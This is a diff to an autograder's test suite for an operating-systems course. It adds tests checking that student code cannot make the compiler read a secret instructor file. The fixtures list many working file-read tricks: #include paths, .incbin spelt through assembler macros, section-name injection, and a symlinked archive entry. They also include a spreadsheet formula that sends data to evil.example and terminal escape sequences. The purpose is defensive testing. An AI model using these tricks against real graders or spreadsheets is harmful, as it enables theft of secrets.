@@ -1798,7 +1798,8 @@ def grading_submissions_suite():
                           sub("incbin", files=openat_fixture(
                               lab, False, INCBIN % ("../../../../%s/key.md" % lab.folder),
                               "    write(1, tidy_blob, tidy_len());\n")), 0,
-                          pred=lambda r: notes(r, "has assembly in the lab's code"))
+                          pred=lambda r: notes(r, "has assembly in the lab's code") and
+                          "not compiled: its assembly has the directive .incbin" in r["output"])
                 leaked = [x for x in secret if x in json.dumps(r)]
                 res.append(("grading/submissions/h6_no_output_holds_key_md", not leaked,
                             "leaked: %s" % leaked))
@@ -2125,6 +2126,29 @@ def grading_units_suite():
                     found3[("03", 1)] is None and found3[("04", 1)] == found[("04", 1)]
                 res.append(("grading/units/regions_are_found_and_text_outside_them_named", bool(ok),
                             "changed %s; %s" % (changed2, found3.get(("03", 1)))))
+            # A batch's CSV: a student named like a formula, or with a terminal's
+            # escapes in the name, reaches the gradebook as text (red team, fourth round)
+            import batch
+            import csv
+            lab = harness_lab()
+            if lab:
+                reports = {}
+                for who in ('=HYPERLINK("http://evil.example/?"&A1,"ok")', "+1+cmd",
+                            "alice\x1b]52;c;ZWNobyBoaQ==\x07\x1b[2K"):
+                    r = grade.Report(lab, True)
+                    r.rows = [{"name": "lab/t", "score": 1, "max_score": 1, "output": "",
+                               "hidden": False}]
+                    r.notes = ["@SUM(1+1) \x1b[31mred"]
+                    reports[who] = r
+                path = os.path.join(tmp, "grades.csv")
+                batch.write_csv(path, lab, reports)
+                with open(path, newline="") as f:
+                    text = f.read()
+                cells = [c for row in csv.reader(text.splitlines()) for c in row]
+                bad = [c for c in cells if c[:1] in "=+-@" or grade.CONTROL.search(c)]
+                res.append(("grading/units/csv_cells_are_no_formulas_and_no_terminal_escapes",
+                            not bad and "'=HYPERLINK" in text and "alice\\x1b]52" in text,
+                            "bad cells %r\n%s" % (bad, text)))
         return res
     return "grading/units", run
 
@@ -2662,9 +2686,212 @@ def grading_batch_suite():
     return "grading/batch", run
 
 
+# Compile-time reading by an absolute path (instructors.md section 7):
+# lab 01 hand-ins whose region makes the compiler read SECRET, a file planted
+# outside the work tree (a string literal, so that C can include it), and
+# show it: in the compiler's or assembler's messages, or printed by openat
+# in every test of a stub (a failed test's output is kept). Each is
+# (name, solved, code at the top of the region, code in openat, what the
+# grading must say: "refused" (not compiled, saying why, 0), a text its
+# output must hold, or None), graded in one batch; none may show SECRET's
+# bytes in results.json, the CSV, the log or the batch's output.
+PRINT_BLOB = "    write(1, tidy_blob, tidy_len());\n"
+TIDY_LEN = "static int tidy_len(void)\n{\n    int n = 0;\n\n    while (tidy_blob[n])\n" \
+    "        n++;\n    return n;\n}\n"
+ASM_BLOB = '__asm__(".section .rodata\\n.globl tidy_blob\\ntidy_blob:\\n%s\\n.byte 0\\n' \
+    '.previous");\nextern const char tidy_blob[];\n' + TIDY_LEN
+COMPILE_ATTACKS = [
+    ("include_by_absolute_path", False,
+     "static const char tidy_blob[] =\n#include \"SECRET\"\n;\n" + TIDY_LEN, PRINT_BLOB,
+     "refused"),
+    ("include_of_a_macro_built_path", False,
+     "#define TIDY_Q(x) #x\n#define TIDY_P(x) TIDY_Q(x)\nstatic const char tidy_blob[] =\n"
+     "#include TIDY_P(BARE)\n;\n" + TIDY_LEN, PRINT_BLOB, "refused"),
+    ("include_through_proc_self_root", False,
+     "static const char tidy_blob[] =\n#include \"/proc/self/rootSECRET\"\n;\n" + TIDY_LEN,
+     PRINT_BLOB, "refused"),
+    ("include_by_a_relative_path_climbing_out", False,
+     "static const char tidy_blob[] =\n#include \"../../../../../../../../../..SECRET\"\n;\n" +
+     TIDY_LEN, PRINT_BLOB, "refused"),
+    # a warning's source line, quoted from the file #line names
+    ("line_directive_naming_the_file_in_a_warning", True,
+     "#line 1 \"SECRET\"\nstatic int tidy_unused;\n#line 1 \"user/lib/open.c\"\n", "",
+     "defined but not used"),
+    # probes: they can tell only whether the file is there (the sandbox hides it)
+    ("has_include_probe", True,
+     "#if __has_include(\"SECRET\")\n#warning tidy: the secret file is there\n#endif\n", "",
+     None),
+    ("pragma_dependency_probe_through_pragma_operator", True,
+     "_Pragma(\"GCC dependency \\\"SECRET\\\" tidy: the secret file is there\")\n", "", None),
+    # a plugin, or a profile read from the file: GCC takes neither from a pragma
+    ("plugin_and_profile_options_in_optimize_pragmas", True,
+     "#pragma GCC optimize(\"-fplugin=SECRET\")\n"
+     "#pragma GCC optimize(\"-fprofile-use=SECRET\")\n", "", "bad option"),
+    ("asm_incbin", False, ASM_BLOB % '.incbin \\"SECRET\\"', PRINT_BLOB, "refused"),
+    ("asm_incbin_in_capitals", False, ASM_BLOB % '.INCBIN \\"SECRET\\"', PRINT_BLOB, "refused"),
+    # its errors quote the file's lines
+    ("asm_include", False, '__asm__(".include \\"SECRET\\"");\n', "", "refused"),
+    ("asm_incbin_spelt_by_a_gas_macro", False,
+     ASM_BLOB % '.macro tidy_m a, b\\n.\\\\a\\\\()\\\\b \\"SECRET\\"\\n.endm\\ntidy_m inc, bin',
+     PRINT_BLOB, "refused"),
+    ("asm_incbin_spelt_by_irp_and_altmacro", False,
+     ASM_BLOB % '.altmacro\\n.irp d, incbin\\n.\\\\d \\"SECRET\\"\\n.endr\\n.noaltmacro',
+     PRINT_BLOB, "refused"),
+    # %c0 of a symbol named incbin: ".incbin" exists only in the compiler's output
+    ("asm_incbin_spelt_by_an_operand", False,
+     "extern const char incbin[], tidy_blob[];\n__attribute__((used)) static void tidy_at(void)\n"
+     "{\n    __asm__(\".section .rodata\\n.globl tidy_blob\\ntidy_blob:\\n.%c0 \\\"SECRET\\\"\\n"
+     ".byte 0\\n.previous\" : : \"i\"(incbin));\n}\n" + TIDY_LEN, PRINT_BLOB, "refused"),
+    ("incbin_injected_in_a_section_name", False,
+     "__attribute__((section(\".rodata\\n.globl tidy_blob\\ntidy_blob:\\n.incbin \\\"SECRET\\\""
+     "\\n.byte 0\\n#\"), used)) static const char tidy_pad = 1;\nextern const char "
+     "tidy_blob[];\n" + TIDY_LEN, PRINT_BLOB, "refused"),
+]
+
+
+def grading_compile_suite():
+    """The attacks of COMPILE_ATTACKS and one more (a symbolic link in the
+    archive to SECRET, which the code includes), graded by tools/batch.py."""
+    def run():
+        import batch
+        import csv
+        import io
+        import tarfile
+        import ccguard
+        lab = handout.find_lab("01")
+        if not lab or not lab.uses_harness():
+            return [("grading/compile/lab_01_is_on_lab_h", False, "no lab 01 on lab.h")]
+        full = sum(t[1] for t in lab.points())
+        res = []
+        with tempfile.TemporaryDirectory() as tmp:
+            token = "orthos-secret-" + os.urandom(8).hex()
+            secret = os.path.join(tmp, "instructor", "key.md")
+            os.makedirs(os.path.dirname(secret))
+            with open(secret, "w") as f:
+                f.write('"%s"\n' % token)
+            future = time.time() + 86400           # newer than any source: #pragma dependency
+            os.utime(secret, (future, future))
+            subs = os.path.join(tmp, "subs")
+            for name, solved, before, inside, _ in COMPILE_ATTACKS:
+                fill = lambda t: t.replace("BARE", secret).replace("SECRET", secret)  # noqa: E731
+                batch.write_fixture(os.path.join(subs, name), openat_fixture(
+                    lab, solved, fill(before), fill(inside)))
+            data = openat_fixture(lab, False, '#include "tidy_secret.h"\n' + TIDY_LEN,
+                                  PRINT_BLOB)["user/lib/open.c"]
+            with tarfile.open(os.path.join(subs, "symlink_in_the_archive.tar.gz"), "w:gz") as t:
+                info = tarfile.TarInfo("user/lib/open.c")
+                info.size = len(data)
+                t.addfile(info, io.BytesIO(data))
+                info = tarfile.TarInfo("user/lib/tidy_secret.h")
+                info.type, info.linkname = tarfile.SYMTYPE, secret
+                t.addfile(info)
+            # not a read: an identifier of 300 kB, quoted by each error about it
+            batch.write_fixture(os.path.join(subs, "huge_identifier"), openat_fixture(
+                lab, False, "", "    tidy_%s = 1;\n" % ("x" * 300000)))
+            out = os.path.join(tmp, "out")
+            p = subprocess.run([sys.executable, os.path.join(qemu.ROOT, "tools", "batch.py"),
+                                lab.num, subs, "--out", out, "--jobs", "1"],
+                               capture_output=True, text=True, errors="replace", timeout=900,
+                               env=dict(os.environ, GRADE_EXTRA=""))
+            try:
+                with open(os.path.join(out, "grades.csv"), newline="", encoding="utf-8") as f:
+                    csv_text = f.read()
+                rows = {r[0]: r for r in list(csv.reader(io.StringIO(csv_text)))[1:]}
+            except (OSError, ValueError) as e:
+                csv_text, rows = "", {}
+                res.append(("grading/compile/batch_writes_the_csv", False, "%s\n%s" % (
+                    e, tail(p.stdout + p.stderr, 20))))
+            settings = grade.tree_settings(qemu.ROOT)
+            real = shutil.which(settings.get("CC", "cc")) or "cc"
+            guard = os.path.join(qemu.ROOT, "tools", "ccguard.py")
+            sandboxed = subprocess.run([sys.executable, guard, "--real", real, "--tree",
+                                        qemu.ROOT, "--probe"], capture_output=True).returncode == 0
+            for name, solved, _, _, want in COMPILE_ATTACKS + [
+                    ("symlink_in_the_archive", False, "", "", "missing")]:
+                shown = p.stdout + p.stderr + csv_text
+                try:
+                    for f in ("results.json", "log.txt"):
+                        with open(os.path.join(out, name, f), errors="replace") as fh:
+                            shown += fh.read()
+                    with open(os.path.join(out, name, "results.json")) as fh:
+                        r = json.load(fh)
+                except (OSError, ValueError) as e:
+                    r = {"score": None, "output": str(e), "tests": []}
+                said = r["output"] + json.dumps(r["tests"])
+                score = int(rows[name][1]) if name in rows else None
+                if want == "refused":
+                    ok = score == 0 and r["score"] == 0 and "not compiled:" in said and \
+                        ("reads '" in said or "directive ." in said)
+                elif want == "missing":
+                    ok = score == 0 and "tidy_secret.h" in said and "No such file" in said
+                elif want:
+                    ok = score == full and want in said
+                else:                       # a probe: with the sandbox it sees nothing
+                    ok = not sandboxed or "the secret file is there" not in said
+                leaked = token in shown or token.encode().hex() in shown
+                res.append(("grading/compile/%s_%s_and_shows_no_byte_of_the_file" % (
+                    name, "is_refused" if want == "refused" else "scores_as_it_should"),
+                    ok and not leaked, "score %s (csv %s), leaked %s\n%s" % (
+                        r["score"], score, leaked, said[:1500])))
+            try:
+                size = os.path.getsize(os.path.join(out, "huge_identifier", "results.json"))
+                with open(os.path.join(out, "huge_identifier", "results.json")) as fh:
+                    r = json.load(fh)
+            except (OSError, ValueError) as e:
+                size, r = None, {"score": None, "output": str(e)}
+            res.append(("grading/compile/a_huge_identifier_in_an_error_makes_a_small_results_json",
+                        size is not None and size < 64 << 10 and r["score"] == 0 and
+                        "characters more" in r["output"], "%s bytes, score %s\n%s" % (
+                            size, r["score"], r["output"][:1000])))
+            # A kernel lab: tools/ksyms.py writes the kernel's source file names
+            # into build/ksyms1.c; it escaped quotes but not newlines, so a
+            # #line naming "x\n#include <SECRET>\n" put an #include there,
+            # compiled after the lab's file. Now every control character is an
+            # octal escape: the name stays one string, nothing is refused and
+            # no byte of the file is read
+            two = handout.find_lab("02")
+            if two and two.uses_harness():
+                rel = two.files()[0]
+                text = handout.edit_regions(
+                    handout.pristine_tree(two)[rel][0].decode(), two.num,
+                    lambda m: '#line 1 "x\\n#include <%s>\\n"\n' % secret + m.group(4))[0]
+                path = os.path.join(tmp, "ksyms-injection")
+                batch.write_fixture(path, {rel: handout.unmark(text).encode()})
+                try:
+                    r, said = grade_cli(two, path, os.path.join(tmp, "ksyms.json"))
+                    shown = json.dumps(r) + said
+                except RuntimeError as e:
+                    r, shown = {"score": None, "output": ""}, str(e)
+                res.append(("grading/compile/a_line_directive_can_put_no_include_into_"
+                            "ksyms1_c", r["score"] is not None and token not in shown and
+                            "not compiled" not in r["output"],
+                            "score %s\n%s" % (r["score"], shown[-1500:])))
+            # Where no mount namespace is allowed (Gradescope's container) the
+            # checks alone must refuse them: the guard run by hand, unsandboxed.
+            flags = [w for w in settings.get("UCFLAGS", "").split() if w != "-Werror"]
+            wrong = []
+            for name, solved, before, inside, want in COMPILE_ATTACKS:
+                src = os.path.join(tmp, name + ".c")
+                with open(src, "wb") as f:
+                    f.write(openat_fixture(lab, solved, before.replace("BARE", secret).replace(
+                        "SECRET", secret), inside.replace("SECRET", secret))["user/lib/open.c"])
+                q = subprocess.run([sys.executable, guard, "--real", real, "--tree", qemu.ROOT,
+                                    "--"] + flags + ["-c", src, "-o",
+                                                     os.path.join(tmp, name + ".o")],
+                                   cwd=qemu.ROOT, capture_output=True, text=True,
+                                   errors="replace", timeout=120)
+                if token in q.stderr or (want == "refused") != (q.returncode == ccguard.REFUSED):
+                    wrong.append("%s: status %d\n%s" % (name, q.returncode, tail(q.stderr, 5)))
+            res.append(("grading/compile/without_the_sandbox_its_checks_alone_refuse_each_attack",
+                        not wrong, "\n".join(wrong)))
+        return res
+    return "grading/compile", run
+
+
 def grading_suites():
     return [grading_runner_suite(), grading_submissions_suite(), grading_kernel_suite(),
-            grading_units_suite(), grading_batch_suite(), autograder_suite(), course_suite(),
+            grading_units_suite(), grading_batch_suite(), grading_compile_suite(),
+            autograder_suite(), course_suite(),
             course_branches_zero_suite()]
 
 
